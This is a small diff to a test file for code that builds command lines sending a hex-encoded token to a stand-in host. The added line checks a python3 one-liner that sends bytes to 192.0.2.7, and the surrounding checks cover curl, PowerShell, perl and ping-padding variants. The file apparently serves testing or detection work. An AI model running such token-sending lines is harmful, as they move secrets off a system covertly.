@@ -159,6 +159,7 @@ describe("the lines that send a token", () => {
     expect(bytesOf(line("curl.exe"), /%(..)/g, 16)).toBe(HEX);
     expect(bytesOf(line("(New-Object").split("byte[]]")[1] ?? "", /[(,](\d+)(?=[,)])/g, 10)).toBe(`${HEX}10`);
     expect(line("perl")).toContain(`pack("H*","${HEX}")`);
+    expect(line("python3")).toContain(`bytes.fromhex("${HEX}"), ("192.0.2.7", 9)`);
     expect(lines).toContain(`ping -c 1 -p ${HEX} 192.0.2.7`);
   });
 
